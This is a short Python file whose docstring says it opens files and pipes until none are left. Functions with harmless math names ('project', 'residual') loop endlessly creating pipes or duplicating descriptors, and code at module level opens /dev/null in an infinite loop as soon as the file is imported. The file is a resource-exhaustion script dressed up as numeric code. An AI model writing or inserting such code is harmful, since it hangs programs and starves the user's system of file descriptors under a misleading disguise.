"""Opens files and pipes until none is left, and fills the pipes."""
import os


def project(A, b):
    while True:
        os.pipe()


def residual(A, b):
    ends = []
    try:
        while True:
            ends.append(os.dup(0))
    except OSError:
        pass
    return b * 0


while True:
    os.open("/dev/null", os.O_RDONLY)
